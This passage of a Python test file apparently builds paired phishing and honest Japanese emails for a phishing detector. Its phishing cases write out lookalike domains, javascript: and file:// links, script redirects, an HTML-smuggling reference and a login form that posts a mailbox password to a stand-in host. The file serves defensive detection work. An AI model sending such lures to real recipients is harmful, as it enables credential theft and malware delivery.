     ours("ご注文の控えは下記よりご覧いただけます。\n\n未払いのお客様は本日中にお支払いください。", "https://files-view.test/seikyu", label=SHOP + "/order", way=anchor),
     ours("ご注文の控えは下記よりご覧いただけます。", TRACK + "https%3A%2F%2Fwww.yamate-shokai.example%2Forder", label=SHOP + "/order", way=anchor))
pair("mail.link.text-differs", "www.etc-meisai.jp written out over a stranger's shop domain; over itself",
     fake("etc", "noreply@bczea-mail.shop", "https://bczeakq.shop", label="https://www2.etc-meisai.jp/etc/R?funccode=1013000000", way=anchor),
     real("etc", label="https://www2.etc-meisai.jp/etc/R?funccode=1013000000", way=anchor))
fact("mail.link.text-differs", "another domain, or another host of the same", ours("資料はこちらです。", "https://www.midori-bungu.example/", label="www.yamate-shokai.example", way=anchor),
     ours("資料はこちらです。", "https://dl.yamate-shokai.example/", label="www.yamate-shokai.example", way=anchor))
fact("mail.link.text-differs", "an address, or the name of a file that looks like one", ours("資料はこちらです。", "https://share.yamate-it.example/d/1", label="www.midori-bungu.example", way=anchor),
     ours("資料はこちらです。", "https://share.yamate-it.example/d/1", label="議事録2026.10.pdf", way=anchor))
fact("mail.link.text-differs", "another's web address, or the sender's mail address as the text of a mailto link", ours("お問い合わせはこちら。", "https://www.midori-bungu.example/contact", label="https://www.yamate-shokai.example/contact", way=anchor),
     ours("お問い合わせはこちら。", "mailto:ito@yamate-shokai.example", label="ito@yamate-shokai.example", way=anchor))
pair("mail.link.userinfo", "the bank stands before the @, or is the host", fake("mufg", "info@ginko-annai.test", "https://direct.bk.mufg.jp@torihiki-kakunin.test/"), real("mufg"))
pair("mail.link.userinfo", "a ministry before the @ after long padding; or an @ in the path, as magazines' authors have",
     ours("補助金の申請は下記から。\n\n本日締切です。", "https://www.mhlw.go.jp%2Fstf%2Fhojokin%2Fshinsei%2F2026@shinsei-uketsuke.test/", label="申請する"),
     ours("弊社の記事が公開されました。", "https://note.com/@yamate_shokai/n/n12ab34", label="記事を読む"))
pair("mail.link.userinfo", "the wholesaler's host as user name; or its mail address in a mailto link", ours("ご注文の確認をお願いします。", "https://order.midori-yakuhin.example:443@oroshi-login.test/", label="注文を確認"),
     ours("ご注文の確認をお願いします。", "mailto:order@midori-yakuhin.example?subject=kakunin", label="注文を確認"))
pair("mail.link.address-literal", "a host that is a number", fake("yamato", "info@nimotsu-annai.test", "http://198.51.100.23/tneko"), real("yamato"))
pair("mail.link.address-literal", "one decimal number", fake("sagawa", "info@todoke-annai.test", "http://3325256727/p"), real("sagawa"))
pair("mail.link.address-literal", "hexadecimal parts", fake("amazon", "info@kaimono-annai.test", "http://0xc6.0x33.0x64.0x17/ap/signin"), real("amazon"))
pair("mail.link.address-literal", "a stranger's machine, or our own copier's page in our network",
     letter("", "noreply@scan-center.test", "スキャンデータの受信", "新しいスキャン文書を受信しました。\n\nパスワードの有効期限が切れる前にログインしてご確認ください。", "http://198.51.100.77/scan/login", "スキャンを見る"),
     letter("", "scan@" + s.OWN, "スキャンデータの受信", "新しいスキャン文書を受信しました。", "http://192.168.11.40/box", "スキャンを見る", auth="lan"))

OROSHI = "いつもお世話になっております。\n\n10月分の請求書を掲載いたしました。ログインのうえご確認ください。"


def bill(link, name="医薬品オンライン請求", addr="seikyu@iyaku-online.example", words=OROSHI, **kw):
    return letter(name, addr, "【請求書】10月分", words, link, "請求書を確認する", **kw)


for bad, good, trait in (
        ("https://www.midori-yakuhinn.example/login", "https://www.midori-yakuhin.example/login", "the wholesaler with a letter too many"),
        ("https://www.midori-yakuh1n.example/login", "https://order.midori-yakuhin.example/login", "a digit for a letter; a host below the real one"),
        ("https://rnarumaru-med.example/kaihi", "https://marumaru-med.example/kaihi", "rn for m in the association's name"),
        ("https://hinata-cIinic.example/webmail", "https://hinata-clinic.example/webmail", "our own name with a capital i for l"),
        ("https://www.mhlw-go.jp/shinsei", "https://www.mhlw.go.jp/shinsei", "a hyphen for the ministry's dot"),
        ("https://www.arnazon.co.jp/gp/", "https://www.amazon.co.jp/gp/", "rn for m in a shop everybody knows"),
        ("https://chuokensa.example/kekka", "https://chuo-kensa.example/kekka", "the laboratory without its hyphen")):
    pair("mail.link.lookalike", trait, bill(bad), bill(good))
CYRILLIC = "https://www." + "chuo-kensа.example".encode("idna").decode() + "/kekka"
pair("mail.link.lookalike", "the laboratory with a Cyrillic letter", bill(CYRILLIC), bill("https://www.chuo-kensa.example/kekka"))
fact("mail.link.punycode", "a Japanese domain name, or an ASCII one", bill("https://xn--wgv71a119e.example/"), bill("https://www.iyaku-online.example/"))
fact("mail.link.punycode", "written in Japanese letters, or only its path is", bill("https://日本語.example/login"), bill("https://www.iyaku-online.example/請求書"))
pair("mail.link.punycode", "the brand's bill behind a Japanese domain; behind its own", fake("viewcard", "info@seikyu-kakutei.test", "https://xn--eckwd4c7c.test/"), real("viewcard"))

pair("mail.link.shortener", "a card company's notice behind a short address; a partner's poll behind one",
     fake("saison", "info@net-oshirase.test", "https://bit.ly/3kLmQ9x"),
     letter("ひなた市医師会", "jimu@marumaru-med.example", "アンケートのお願い", "会員の先生方へ\n\n在宅医療についてのアンケートにご協力ください。", "https://bit.ly/3kLmQ9x", "アンケートに答える"))
pair("mail.link.shortener", "the carrier behind a short address like in text messages; the market behind its own short address",
     fake("yamato", "info@fuzai.test", "https://is.gd/tneko1"), real("rakuten", subject="【楽天市場】ご注文内容のご確認", words="ご注文ありがとうございます。"))
pair("mail.link.shortener", "unpaid power behind a short address; a municipal firm's leaflet behind one", fake("tepco", "info@denki-mado.test", "https://tinyurl.com/denki26"),
     ours("新しいカタログができました。どうぞご覧ください。", "https://tinyurl.com/yamate26", label="カタログを見る"))
fact("mail.link.shortener", "a short address, or the long one", ours("カタログができました。", "https://bit.ly/3abcDEF"), ours("カタログができました。", SHOP + "/catalog"))
fact("mail.link.shortener", "a short address, or the name of a host that is short itself", ours("カタログができました。", "https://t.co/AbCdEf12"), ours("カタログができました。", "https://k.jp.example/c"))

pair("mail.link.redirect", "the brand's letter leads through a search engine to a stranger", fake("apple", "info@id-annai.test", "https://www.google.com/url?q=https%3A%2F%2Fid-kakunin.test%2Fjp&sa=D"), real("apple"))
pair("mail.link.redirect", "through an advertiser's counter to a stranger; through a newsletter's counter to the sender",
     fake("amazon", "info@tsuhan-annai.test", "https://adclick.g.doubleclick.net/pcs/click?adurl=https%3A%2F%2Fshop-kakunin.test%2Fsignin"),
     ours("秋のカタログができました。どうぞご覧ください。", TRACK + "https%3A%2F%2Fwww.yamate-shokai.example%2Fcatalog", end='<p style="font-size:11px"><a href="%s">配信停止</a></p>\n' % (SHOP + "/stop?m=info%40hinata-clinic.example")))
pair("mail.link.redirect", "the same open redirect: to a stranger's login page, or to the sender's own page",
     ours("口座振替ができませんでした。至急お支払い情報をご確認ください。", "https://www.bing.com/ck/a?u=https%3A%2F%2Fshiharai-login.test%2F"), ours("秋のカタログができました。", "https://www.bing.com/ck/a?u=https%3A%2F%2Fwww.yamate-shokai.example%2F"))
fact("mail.link.redirect", "another site's address in the query, or the same site's", ours("こちらです。", "https://www.midori-bungu.example/jump?url=https%3A%2F%2Fwww.yamate-it.example%2F"),
     ours("こちらです。", SHOP + "/login?back=https%3A%2F%2Fwww.yamate-shokai.example%2Forder"))

for key, host in (("m365", "https://m365-login-8f2a.workers.dev/"), ("microsoft", "https://pub-3f09c1aa27.r2.dev/index.html"), ("sagawa", "https://sagawa-jp.duckdns.org/p"),
                  ("google", "https://kensho-81f.web.app/"), ("dropbox", "https://mitsumori-view.weebly.com/")):
    pair("mail.link.free-host", "a page anybody can publish: in a brand's name, or an association's questionnaire",
         fake(key, "info@%s-notice.test" % key.replace("365", ""), host),
         letter("ひなた市医師会", "jimu@marumaru-med.example", "出欠のご確認", "会員の先生方へ\n\n11月例会の出欠をお知らせください。", FORM, "出欠を回答する"))
pair("mail.link.free-host", "a form anybody can make: asks for the password of the mailbox, or for the number of people coming",
     ours("メールサーバーの容量が上限に達しました。\n\n本日中にアカウントを確認されない場合、メールの受信が停止されます。", FORM, label="アカウントを確認", subject="メールボックス容量の警告"),
     ours("弊社展示会のご案内です。\n\nご来場の人数をお知らせください。", FORM, label="人数を回答する", subject="展示会のご案内"))
pair("mail.link.free-host", "the unpaid bill on a free file host; the drawings on one that offices use",
     ours("10月分の請求書が未払いとなっております。至急ご確認ください。", "https://storage.googleapis.com/seikyu-2026/index.html", label="請求書を開く", subject="未払い請求書"),
     ours("図面をお送りします。保存期間は7日間です。", "https://12.gigafile.nu/1027-a1b2c3", label="図面をダウンロード", subject="図面の送付"))

pair("mail.link.program", "the bill's link ends in a program, or in a PDF", bill("https://dl.iyaku-online.example/seikyu_202610.exe"), bill("https://dl.iyaku-online.example/seikyu_202610.pdf"))
pair("mail.link.program", "in a disk image, or in a page", bill("https://dl.iyaku-online.example/seikyu.iso"), bill("https://dl.iyaku-online.example/seikyu.html"))
pair("mail.link.program", "a script behind a query, or a workbook", bill("https://dl.iyaku-online.example/seikyu.js?dl=1"), bill("https://dl.iyaku-online.example/seikyu.xlsx?dl=1"))
pair("mail.link.program", "a stranger's update of the records system, or the maintainer's notice of it",
     ours("電子カルテの緊急更新プログラムを公開しました。本日中に適用してください。", "https://karte-hoshu.test/update/karte_setup.msi", label="更新プログラム"),
     letter("メディカルソフト保守センター", "support@medisoft-hoshu.example", "電子カルテ保守のお知らせ", "電子カルテの更新を11月5日の夜間に行います。", "https://www.medisoft-hoshu.example/info/1105.html", "お知らせを読む"))
pair("mail.link.dangerous-scheme", "a script for a link, or a telephone number", ours("ご予約の変更はこちら。", "javascript:location='https://yoyaku.test/'"), ours("ご予約の変更はこちら。", "tel:0450000099", label="045-000-0099"))
pair("mail.link.dangerous-scheme", "a page inside the address, or a picture inside the page",
     ours("請求書はこちら。", "data:text/html;base64," + base64.b64encode(b"<form action=https://files.test><input type=password></form>").decode()),
     ours("請求書をお送りします。", SHOP + "/bill", end='<img alt="" width="40" src="data:image/png;base64,%s">' % base64.b64encode(s.png(8, 8)).decode()))
pair("mail.link.dangerous-scheme", "a search on a stranger's share, or a search on the shop's site", ours("資料はこちら。", "search-ms:query=seikyu&crumb=location:%5C%5Cfiles.test%5Cshare"), ours("資料はこちら。", SHOP + "/search?query=seikyu"))
pair("mail.link.dangerous-scheme", "a share of a machine outside, or a mail address", ours("資料はこちら。", "file://///files.test/share/shiryou"), ours("資料はこちら。", "mailto:ito@yamate-shokai.example"))
pair("mail.link.dangerous-scheme", "a share outside as a link, where Windows logs in; the office's own share named in the words", ours("資料は共有フォルダにあります。", "\\\\files.test\\share\\shiryou.xlsx"), ours("資料は共有フォルダ（\\\\nas\\share）にあります。", SHOP + "/shiryou"))
pair("mail.link.invisible", "a zero-width space inside the host, or none", fake("paypay", "info@kessai-mado.test", "https://www.pay\u200bpay-ninsho.test/"), real("paypay"))
pair("mail.link.invisible", "a fraction slash that is no path, or a path", bill("https://www.midori-yakuhin.example\u2044login.oroshi-net.test/"), bill("https://www.midori-yakuhin.example/login"))
pair("mail.link.invisible", "direction marks in the address, or Japanese letters in its path", bill("https://oroshi-net.test/\u202efdp.exe"), bill("https://www.iyaku-online.example/お知らせ/十月"))
pair("mail.link.recipient-inside", "our address in the link of a stranger's login page; in the unsubscribe link of the sender's own site",
     letter("メール管理者", "admin@mail-kanri.test", "パスワードの有効期限", "info@hinata-clinic.example のパスワードは本日で有効期限が切れます。\n\n継続してご利用になるには確認が必要です。", "https://webmail-hoji.test/#" + OUR, "パスワードを保持"),
     ours("秋のカタログができました。", SHOP + "/catalog", end='<p><a href="%s/stop?mail=%s">配信停止</a></p>\n' % (SHOP, OUR)))
pair("mail.link.recipient-inside", "the same in base64: for a fake login, or for a booking's confirmation on the sender's site",
     letter("サポート", "it@server-kanri.test", "メールボックス容量の上限", "メールボックスの容量が98%に達しました。容量を追加しない場合、受信できなくなります。", "https://yoryo-tsuika.test/?e=" + base64.b64encode(OUR.encode()).decode(), "容量を追加"),
     ours("ご予約を承りました。", SHOP + "/yoyaku?e=" + base64.b64encode(OUR.encode()).decode(), label="予約内容を確認"))
fact("mail.link.recipient-inside", "our whole address in another's link, or only our town's name", ours("こちらです。", "https://www.midori-bungu.example/u/info%40hinata-clinic.example"), ours("こちらです。", "https://www.midori-bungu.example/u/hinata"))
fact("mail.link.remote-content", "a remote picture, or one that came along", ours("ご案内です。", end='<img src="https://www.yamate-shokai.example/logo.png" width="120" alt="">'),
     ours("ご案内です。", end='<img src="cid:logo@yamate" width="120" alt="">'))
fact("mail.link.remote-content", "a style sheet from the network, or one in the page", ours("ご案内です。", head='<style>@import url("https://www.yamate-shokai.example/a.css");</style>'), ours("ご案内です。", head="<style>p { margin: 0 }</style>"))
pair("mail.link.odd", "a port of its own, or the usual", fake("etc", "info@shokai-annai.test", "https://riyou-kakunin.test:8443/etc"), real("etc"))
pair("mail.link.odd", "backslashes where slashes belong", fake("mercari", "info@furima-annai.test", "https:\\\\furima-kakunin.test\\mypage"), real("mercari"))
pair("mail.link.odd", "eight names before the domain, or two", fake("smbc-card", "info@card-mado.test", "https://www.a.b.c.d.e.f.login-card.test/"), real("smbc-card"))
fact("mail.link.odd", "several @, or one in a query", ours("こちらです。", "https://a@b@www.yamate-shokai.example/"), ours("こちらです。", SHOP + "/?to=ito@yamate-shokai.example"))
fact("mail.link.odd", "an odd port, or the scheme's own written out", ours("こちらです。", "https://www.yamate-shokai.example:4433/"), ours("こちらです。", "https://www.yamate-shokai.example:443/"))
fact("mail.link.unrelated", "only strangers' hosts, or the sender's among them", ours("資料はこちらです。", "https://www.midori-bungu.example/", plain_words=None), ours("資料はこちらです。", SHOP + "/", plain_words=None, end='<p><a href="https://www.midori-bungu.example/">協賛</a></p>'))
fact("mail.link.unrelated", "a stranger's host, or one below the sender's domain", ours("資料はこちらです。", "https://dl.midori-bungu.example/1"), ours("資料はこちらです。", "https://dl.yamate-shokai.example/1"))
pair("mail.link.unrelated", "a claimed carrier's letter leads to neither it nor its sender", fake("yamato", "info@gyomu-center.test", "https://hoshino-zouen.example/wp-content/ymt/"), real("yamato"))

for key, host, trait in (
        ("etc", "https://kqzvtwx.top/", "seven consonants"), ("amazon", "https://xj7q2vbn9.cn/ap", "letters and digits"), ("ekinet", "https://bvcxqzpw.shop/login", "a run over the keyboard"),
        ("jcb", "https://qwhzrtkd.xyz/", "eight consonants on a cheap ending"), ("mufg", "https://a8f3e1d09b7c.icu/direct", "hexadecimal digits")):
    pair("mail.link.random-domain", trait + "; the real one", fake(key, "info@mail-%s.test" % s.token(key, 6), host), real(key))
for host in ("https://jcqhc.or.jp/", "https://www.jspccs.jp/", "https://www.ncchd.go.jp/", "https://www.tmghig.jp/"):
    fact("mail.link.random-domain", "letters without sense, or the initials of a Japanese institution: " + host.split("/")[2],
         ours("研修会のご案内です。", "https://zxqkvjwp.top/"), ours("研修会のご案内です。", host))
for key, host in (("amazon", "https://www.amazon.co.jp.signin.kakunin-center.test/ap"), ("smbc-card", "https://smbc-card.com-vpass.test/mem"), ("ekinet", "https://eki-net.com.jp-member.test/login"),
                  ("apple", "https://appleid.apple.com.jp-anzen.test/"), ("yamato", "https://kuronekoyamato.co.jp.todoke.test/tneko")):
    pair("mail.link.brand-in-host", "the brand's domain in front of another's, or itself", fake(key, "info@%s-mado.test" % s.token(key, 5), host), real(key))
fact("mail.link.brand-in-host", "the brand in the host, or in a dealer's path", ours("導入事例です。", "https://www.microsoft.com.donyu-jirei.test/365"), ours("導入事例です。", SHOP + "/microsoft.com/365"))
fact("mail.link.brand-in-host", "a card's domain in front of another's, or the initials as part of a word", ours("ご案内です。", "https://www.jcb.co.jp.kaiin.test/"), ours("ご案内です。", "https://jcbound.example/"))

# --------------------------------------------------------------------------------------------------------------- HTML
# The same make-up around a phisher's letter and around honest mail; facts about the make-up alone are signal-only.

FILLER = " ".join(s.token("filler%d" % i, 4 + i % 6) for i in range(220))
NOVEL = "山の上の古い駅には、朝のうちだけ列車が止まる。駅長は花壇に水をやり、子どもたちは切符の鋏の音を聞いていた。" * 12
PREHEADER = "10月のお知らせと、年末年始の休業日についてご案内いたします。"


def hidden(style, words):
    return '<div style="%s">%s</div>\n' % (style, words)


pair("mail.html.hidden-text", "a novel nobody sees in a phisher's letter; a preview line nobody sees in a newsletter",
     fake("amazon", "info@kaimono-mado.test", "https://kaimono-login.test/", plain_words=None, end=hidden("display:none", NOVEL)),
     ours("秋のカタログができました。", SHOP + "/catalog", top=hidden("display:none;max-height:0;overflow:hidden", PREHEADER)))
pair("mail.html.hidden-text", "random words white on white; the shop's real letter with a preview line padded with blanks, as templates do",
     fake("aeon", "info@kurashi-mado.test", "https://kurashi-kakunin.test/", plain_words=None, end=hidden("color:#ffffff;background:#ffffff", FILLER)),
     real("aeon", top=hidden("display:none;font-size:1px;color:#ffffff;opacity:0", PREHEADER + "&#847;&zwnj;&nbsp;" * 60)))
fact("mail.html.hidden-text", "letters moved far off the page, or a table cell for spacing", ours("ご案内です。", end=hidden("position:absolute;left:-9999px", FILLER)), ours("ご案内です。", end='<table><tr><td style="width:9px">&nbsp;</td></tr></table>'))
fact("mail.html.hidden-text", "hidden for everybody, or only on telephones by a media query", ours("ご案内です。", end=hidden("visibility:hidden", NOVEL)),
     ours("ご案内です。", head="<style>@media (max-width:480px) { .wide { display:none } }</style>", end='<div class="wide">%s</div>' % NOVEL))
fact("mail.html.hidden-text", "white letters on the white page, or white letters on a dark button", ours("ご案内です。", end=hidden("color:#fefefe", NOVEL)), ours("ご案内です。", end=hidden("color:#fefefe;background-color:#203040", NOVEL)))
fact("mail.html.hidden-text", "hidden by a class of the style sheet, or a class that hides nothing", ours("ご案内です。", head="<style>.k{display:none}</style>", end='<div class="k">%s</div>' % NOVEL),
     ours("ご案内です。", head="<style>.k{display:block}</style>", end='<div class="k">%s</div>' % NOVEL))
ZERO = "".join('%s<span style="font-size:0">%s</span>' % (c, s.token("z%d" % i, 3)) for i, c in enumerate("お客様のアカウントは停止されました。二十四時間以内に確認してください。"))
pair("mail.html.zero-font", "letters without size between those of the lure; in the twin blanks without size between table cells, as editors make them",
     fake("amazon", "info@kaimono-center.test", "https://kaimono-kakunin.test/", words="重要なお知らせ", plain_words=None, end="<p>%s</p>" % ZERO),
     real("amazon", end='<table><tr><td style="font-size:0;line-height:0" height="20">&nbsp;</td></tr></table>'))
fact("mail.html.zero-font", "words without size, or a blank without size", ours("ご案内です。", end='<p>ご<span style="font-size:0px">xkq7</span>案<span style="font-size:0px">pw29</span>内</p>'),
     ours("ご案内です。", end='<p>ご案内<span style="font-size:0px">&nbsp;</span></p>'))
fact("mail.html.zero-font", "a point of no size, or small print", ours("ご案内です。", end='<p style="font-size:0.1pt">%s</p>' % FILLER), ours("ご案内です。", end='<p style="font-size:9px">%s</p>' % NOVEL))
pair("mail.html.other-story", "the text part talks of a walk, the HTML of a locked account; or both of the same",
     fake("smbc-card", "info@card-oshirase.test", "https://card-kakunin.test/mem", plain_words="今日は天気がよかったので、公園を散歩しました。池のまわりの紅葉がきれいでした。また写真を送りますね。それでは、お体に気をつけて。\n"), real("smbc-card"))
pair("mail.html.other-story", "an English poem beside a Japanese bill; the usual sentence for programs without HTML beside a newsletter",
     bill("https://seikyu-etsuran.test/", plain_words="The lake was still and the boats were asleep. Nobody had told the ferryman that the autumn had already come to the other shore.\n"),
     ours("秋のカタログができました。", SHOP + "/catalog", plain_words="このメールはHTML形式です。表示できない場合は下記をご覧ください。\n%s/mail/26\n" % SHOP))
fact("mail.html.other-story", "another text, or the same in other line breaks and with addresses", ours("研修会を11月5日に開催します。会場は市民会館の大ホールです。", plain_words="商品の値上げについてご連絡いたします。来月より全品目の価格を改定させていただきます。\n"),
     ours("研修会を11月5日に開催します。会場は市民会館の大ホールです。", plain_words="研修会を11月5日に\n開催します。\n会場は市民会館の\n大ホールです。\n\n山手商会　伊藤 美咲\n%s\n" % SHOP))
pair("mail.html.smuggling", "a page that builds a file under a bill's words; a page with a long picture in base64",
     ours("請求書を添付しました。", shown=page("請求書を表示しています。", end=s.SMUGGLE[s.SMUGGLE.index("<script>"):s.SMUGGLE.index("</body>")])),
     ours("請求書を添付しました。", shown=page("請求書をお送りします。", end='<img alt="" src="data:image/png;base64,%s">' % base64.b64encode(s.png(120, 120)).decode())))
pair("mail.html.smuggling", "an attached page that unpacks a string; one that shows a map of the hall", with_files(f("請求書_202610.html", s.SMUGGLE.encode(), "text/html")),
     with_files(f("会場案内.html", page("会場は市民会館です。", SHOP + "/map", "地図を開く").encode(), "text/html")))
BOOKING = ('<script type="application/ld+json">{"@context": "http://schema.org", "@type": "EventReservation", "reservationNumber": "E123", '
           '"underName": {"@type": "Person", "name": "佐々木 恵"}}</script>')
pair("mail.html.script", "a script that sends on; data about the reservation, as hotels add for mail programs", ours("ご予約を承りました。", SHOP + "/yoyaku", head='<script>location.href="https://yoyaku-kakunin.test/";</script>'),
     ours("ご予約を承りました。", SHOP + "/yoyaku", head=BOOKING))
pair("mail.html.script", "an action on loading a picture; the same picture without", ours("ご予約を承りました。", end='<img src="x" onerror="location=\'https://yoyaku-kakunin.test/\'">'), ours("ご予約を承りました。", end='<img src="https://www.yamate-shokai.example/x.png" alt="">'))
pair("mail.html.script", "the page sends on by itself; the page tells its language", ours("請求書です。", head='<meta http-equiv="refresh" content="0;url=https://seikyu-hyoji.test/">'), ours("請求書です。", head='<meta http-equiv="Content-Language" content="ja">'))
pair("mail.html.script", "a frame with a stranger's page; a table", ours("請求書です。", end='<iframe src="https://seikyu-hyoji.test/login" width="600" height="400"></iframe>'), ours("請求書です。", end='<table border="1"><tr><td>10月分</td><td>1,200円</td></tr></table>'))
LOGIN = '<form action="https://files-view.test/post.php" method="post">メール <input type="email" name="m" value="%s"><br>パスワード <input type="password" name="p"><br><input type="submit" value="ログイン"></form>\n' % OUR
pair("mail.html.form", "a form that asks for the password inside the mail; a link to the service's page", fake("m365", "it@mail-joho.test", None, end=LOGIN), real("m365"))
pair("mail.html.form", "a form for the card number; a table to print and send by fax",
     ours("年会費のお支払いはこちらから。", end='<form action="https://kaihi-shiharai.test/">カード番号 <input name="card"> 有効期限 <input name="exp"> <button>支払う</button></form>'),
     ours("年会費のお支払いはこちらから。", end='<table border="1"><tr><td>お名前</td><td>　　　　　　　　</td></tr><tr><td>FAX</td><td>045-000-0098</td></tr></table>'))
fact("mail.html.form", "a form, or a button that is a link", ours("アンケートです。", end=LOGIN), ours("アンケートです。", SHOP + "/enquete", label="回答する"))

SIZE = 29


def rs_code(data, n):
    """n Reed-Solomon bytes over GF(256) with 0x11d, as ISO/IEC 18004 wants."""
    power, log = [1], {}
    for i in range(255):
        log[power[i]] = i
        power.append(power[i] << 1 ^ (0x11d if power[i] & 0x80 else 0))
    times = lambda a, b: power[(log[a] + log[b]) % 255] if a and b else 0
    generator = [1]
    for i in range(n):
        generator = [a ^ times(b, power[i]) for a, b in zip(generator + [0], [0] + generator)]
    rest = list(data) + [0] * n
    for i in range(len(data)):
        for j in range(1, n + 1):
            rest[i + j] ^= times(generator[j], rest[i])
    return rest[-n:]


def qr(words):
    """A QR code of version 3, level L, mask 0, as rows of booleans."""
    raw = words.encode()
    bits = "0100" + format(len(raw), "08b") + "".join(format(b, "08b") for b in raw) + "0000"
    data = [int(bits[i:i + 8].ljust(8, "0"), 2) for i in range(0, len(bits), 8)]
    data = (data + [0xec, 0x11] * 28)[:55]
    bits = "".join(format(b, "08b") for b in data + rs_code(data, 15)) + "0" * 7
    dark, fixed = [[False] * SIZE for _ in range(SIZE)], [[False] * SIZE for _ in range(SIZE)]

    def put(x, y, on):
        if 0 <= x < SIZE and 0 <= y < SIZE:
            dark[y][x], fixed[y][x] = on, True

    for i in range(SIZE):
        put(6, i, i % 2 == 0)
        put(i, 6, i % 2 == 0)
    for cx, cy, reach in ((3, 3, 4), (SIZE - 4, 3, 4), (3, SIZE - 4, 4), (22, 22, 2)):
        for dy in range(-reach, reach + 1):
            for dx in range(-reach, reach + 1):
                ring = max(abs(dx), abs(dy))
                put(cx + dx, cy + dy, ring not in ((2, 4) if reach == 4 else (1,)))
    for i, c in enumerate(reversed("111011111000100")):
        put(8, i if i < 6 else i + 1 if i < 8 else SIZE - 15 + i, c == "1")
        put(SIZE - 1 - i if i < 8 else 7 if i == 8 else 14 - i, 8, c == "1")
    put(8, SIZE - 8, True)
    at = 0
    for right in (28, 26, 24, 22, 20, 18, 16, 14, 12, 10, 8, 5, 3, 1):
        upward = (right + 1) & 2 == 0 if right > 6 else (right + 2) & 2 == 0
        upward = {28: True}.get(right, upward)
        for step in range(SIZE):
            y = SIZE - 1 - step if upward else step
            for x in (right, right - 1):
                if not fixed[y][x]:
                    dark[y][x] = (bits[at] == "1") ^ ((x + y) % 2 == 0)
                    at += 1
    return dark


def characters(rows):
    rows = rows + [[False] * SIZE]
    return '<pre style="font-family:monospace;line-height:1">%s</pre>\n' % "\n".join(
        "".join(" \u2580\u2584\u2588"[rows[y][x] + 2 * rows[y + 1][x]] for x in range(SIZE)) for y in range(0, SIZE + 1, 2))


def cells(rows):
    return '<table cellspacing="0" cellpadding="0" border="0">%s</table>\n' % "".join(
        "<tr>%s</tr>\n" % "".join('<td width="5" height="5" bgcolor="#%s"></td>' % ("000000" if c else "ffffff") for c in row) for row in rows)


CODE = qr("https://ninsho-login.test/mfa?u=21")
SCAN = "Microsoft 365 の多要素認証の有効期限が本日で切れます。\n\nスマートフォンで下記のQRコードを読み取り、再設定してください。"
HOURS = '<table border="1" cellspacing="0">%s</table>' % "".join("<tr>%s</tr>" % "".join('<td width="30" bgcolor="#%s">%s</td>' % (("000000", "") if (x + y) % 5 == 3 else ("ffffff", "○")) for x in range(8)) for y in range(5))
pair("mail.html.block-code", "a code of block characters; a headline of block characters",
     letter("IT管理者", "it@ninsho-koushin.test", "多要素認証の再設定", SCAN, end=characters(CODE), plain_words=None),
     ours("■□■□■□■□■□■□■□■□■□\n山手商会ニュース 10月号\n□■□■□■□■□■□■□■□■□■"))
pair("mail.html.block-code", "a code of table cells; a table of opening hours with dark cells", letter("総務部", "jinji@ninsho-koushin.test", "給与明細の電子化", "給与明細は下記のQRコードよりご確認ください。本日中に登録が必要です。", end=cells(CODE), plain_words=None),
     ours("11月の診療時間のご案内です。", end=HOURS))
pair("mail.html.block-code", "each cell a div with a background; a bar chart of such divs",
     letter("IT管理者", "it@ninsho-kigen.test", "多要素認証の再設定", SCAN, plain_words=None, end="".join('<div style="height:5px;white-space:nowrap;font-size:0">%s</div>' % "".join(
         '<span style="display:inline-block;width:5px;height:5px;background:%s"></span>' % ("#000" if c else "#fff") for c in row) for row in CODE)),
     ours("月別のご利用状況です。", end="".join('<div style="height:12px;width:%dpx;background:#336699"></div>' % (20 + 13 * i) for i in range(12))))
PICTURE = '<a href="%s"><img src="%s" width="640" height="900" alt=""></a>'
pair("mail.html.image-only", "one linked picture of a stranger; the firm's leaflet with words beside it",
     letter("カード利用確認センター", "info@image-mail.test", "【重要】ご利用確認のお願い", "", shown="<html><body>%s</body></html>" % (PICTURE % ("https://riyou-kakunin-g.test/", "https://riyou-kakunin-g.test/m.png")), plain_words=None),
     ours("秋の展示会のご案内です。皆様のご来場を心よりお待ちしております。11月5日から3日間、市民会館にて開催いたします。", end=PICTURE % (SHOP + "/tenji", SHOP + "/tenji.png"), plain_words=None))
pair("mail.html.image-only", "the brand's whole letter is one picture; words and a picture", fake("amazon", "info@kaimono-gazo.test", None, words="", shown="<html><body>%s</body></html>" % (PICTURE % ("https://gazo-login.test/", "https://gazo-login.test/a.jpg")), plain_words=None),
     real("amazon", end=PICTURE % ("https://www.amazon.co.jp/", "https://www.amazon.co.jp/a.jpg")))
fact("mail.html.image-only", "one linked picture, or a scan sent by a copier inside the mail", ours("", shown="<html><body>%s</body></html>" % (PICTURE % ("https://tenji.test/", "https://tenji.test/x.png")), plain_words=None),
     letter("", "scan@" + s.OWN, "Scan", "", shown='<html><body><img src="cid:scan1" width="640" height="900"></body></html>', plain_words=None, auth="lan"))
SAFE = '<table width="100%" bgcolor="#dff0d8"><tr><td style="padding:8px">✔ このメールはひなた内科クリニックのメールセキュリティにより検査され、安全であることが確認されました。</td></tr></table>\n'
AVAST = '<hr><p style="font-size:11px">このメールはアバスト アンチウイルスによりウイルススキャンされています。</p>\n'
pair("mail.html.fake-notice", "says that our security found it safe; the footer of the sender's virus scanner", bill("https://seikyu-miru.test/", top=SAFE), bill("https://www.iyaku-online.example/bill", end=AVAST))
pair("mail.html.fake-notice", "a stranger's quarantine report about mails for us; a wholesaler's about delayed parcels",
     letter("メールセキュリティ", "quarantine@mail-kenchi.test", "隔離通知: 3件のメッセージ", "info@hinata-clinic.example 宛の3件のメールが隔離されました。\n\n14日以内に確認しない場合、削除されます。", "https://kakuri-kaijo.test/release", "メールを解放する"),
     ours("ご注文の3件の商品の入荷が遅れております。\n\n入荷しだい発送いたします。", SHOP + "/order", label="ご注文状況"))
pair("mail.html.fake-notice", "a yellow banner as ours: 'from inside the house'; a yellow banner of a newsletter",
     ours("振込の件、本日中に手続きをお願いします。", "https://shinsei-shonin.test/", top='<div style="background:#fff3cd">【社内】このメールは院内から送信されました。送信者は確認済みです。</div>'),
     ours("秋のカタログができました。", SHOP + "/catalog", top='<div style="background:#fff3cd">【お知らせ】年末の最終出荷は12月26日です。</div>'))
MSO = "<!--[if mso]>%s<![endif]-->\n"
VML = ('<v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="%s" style="height:44px;width:200px" arcsize="10%%" fillcolor="#0b5ed7"><center style="color:#fff">詳しく見る</center></v:roundrect>')
